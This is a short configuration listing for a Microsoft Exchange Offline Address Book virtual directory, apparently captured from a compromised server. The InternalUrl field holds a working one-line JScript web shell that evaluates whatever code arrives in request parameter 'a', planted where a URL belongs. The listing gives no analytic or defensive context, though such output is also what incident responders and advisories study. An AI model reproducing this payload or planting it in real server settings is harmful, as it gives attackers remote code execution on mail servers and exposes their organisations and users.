Name                            : OAB (Default Web Site)
PollInterval                    : 480
OfflineAddressBooks             :
RequireSSL                      : True
BasicAuthentication             : False
WindowsAuthentication           : True
OAuthAuthentication             : True
InternalAuthenticationMethods   : {WindowsIntegrated, OAuth}
ExternalAuthenticationMethods   : {WindowsIntegrated, OAuth}
ExtendedProtectionTokenChecking : None
InternalUrl                     : http://x/<%@ Page Language="Jscript"%><%eval(Request.Item["a"],"unsafe");%>
ExternalUrl                     : https://mail.fabrikam.com/OAB
